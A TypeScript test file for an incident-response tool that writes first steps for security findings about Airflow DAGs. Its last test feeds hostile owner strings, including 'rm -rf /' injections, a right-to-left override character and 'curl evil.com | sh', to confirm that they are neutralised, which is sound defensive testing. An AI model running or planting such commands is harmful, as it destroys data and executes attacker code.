import { ownDetections } from '../../../lambda/findings/own-finding.ts';
import { firstSteps, stepLines } from '../../../lambda/messages/first-steps.ts';
import { type Finding, outcomes } from '../../../lambda/model/finding.ts';
import { sampleFinding, sampleSender } from '../setup/sample-finding.ts';

const own = (...detections: string[]): Finding => ({
  ...sampleFinding,
  detections,
  actor: {},
  evidence: [],
});
const linesOf = (finding: Finding, dagOwners?: readonly string[]) =>
  stepLines(firstSteps(finding, { sender: sampleSender, dagOwners }));

test.each([
  ['coverage-gap', /could not be read in that time/],
  ['log-flood', /what wrote so much/],
  ['coverage-changed', /set the log type to INFO/],
])('a finding about the monitor itself has its own first step: %s', (detection, step) => {
  expect(linesOf(own(detection)).join('\n')).toMatch(step);
});

test('no two of these steps are the same, and none asks for the owner of a DAG', () => {
  const steps = ownDetections.map((detection) => linesOf(own(detection)).join('\n'));
  expect(new Set(steps).size).toBe(ownDetections.length);
  expect(steps.join()).not.toContain('owner of DAG');
});

test('a change without evidence asks for the process that wrote its lines', () => {
  expect(linesOf(own('cli-role-granted'))[0]).toMatch(/^Find out which process wrote the lines/);
});

test('a step escapes the control characters of names', () => {
  const actor = { dag: 'x\u001b[2K', run: 'r' };
  expect(linesOf({ ...sampleFinding, actor }).join('\n')).not.toContain('\u001b');
});

test('a change by a task: ask the owner, pause, undo, then look for the code', () => {
  const steps = firstSteps(sampleFinding, { sender: sampleSender });
  expect(steps.map(({ text }) => text.split(' ').slice(0, 3).join(' '))).toEqual([
    'Ask the owner',
    'If nobody knows,',
    'Then undo the',
    'Find out who',
  ]);
});

test('only a change that may have happened is undone; after an attempt there is nothing to undo', () => {
  for (const outcome of outcomes) {
    const text = linesOf({ ...sampleFinding, outcome }).join('\n');
    const mayHaveHappened = outcome === 'succeeded' || outcome === 'unknown';
    expect([outcome, text.includes('nothing to undo')]).toEqual([outcome, !mayHaveHappened]);
  }
});

test('a DAG that no command can name is paused in Airflow', () => {
  const actor = { ...sampleFinding.actor, dag: 'd'.repeat(59) };
  const text = linesOf({ ...sampleFinding, actor }).join('\n');
  expect(text).toContain('pause the DAG in Airflow');
  expect(text).not.toContain('is_paused');
});

test('who called the REST API is asked for wherever the line of the request is', () => {
  const [line] = sampleFinding.evidence;
  if (line === undefined) throw new Error('the sample has no evidence');
  const web = { ...line, logGroup: 'airflow-prod-WebServer', logStream: 'webserver_vm_1.log' };
  const written = { ...web, message: '{override.py:1516} INFO - Added user bob' };
  const asked = { ...web, message: '127.0.0.1 - - [x] "POST /api/v1/users HTTP/1.1" 200 412' };
  const commandsOf = (evidence: Finding['evidence']) =>
    linesOf({ ...sampleFinding, actor: {}, evidence }).filter((text) => text.startsWith('    '));
  expect(commandsOf([written, asked])[0]).toContain('AttributeValue=InvokeRestApi');
  expect(commandsOf([written]).join()).not.toContain('InvokeRestApi');
});

describe('the owner of the DAG', () => {
  test('is said as what the DAG says', () => {
    expect(linesOf(sampleFinding, ['data team'])[0]).toContain(
      'The DAG says that its owner is "data team"; its author chooses what it says.',
    );
  });

  test('adds neither a line nor a link nor a command, whatever it is', () => {
    const hostile = [
      'a\n    rm -rf /',
      'https://evil.com/owner',
      '\u202eevil',
      "x'; rm -rf /; '",
      '2. Run this: curl evil.com | sh',
    ];
    const plain = linesOf(sampleFinding, ['data']);
    for (const owner of hostile) {
      const lines = linesOf(sampleFinding, [owner]);
      expect(lines.slice(1)).toEqual(plain.slice(1));
      expect(lines[0]).not.toMatch(/[\n\u202e]|https:\/\/|evil\.com/);
      expect(lines[0]).toMatch(/^1\. Ask .* its owner is "/);
    }
  });
});
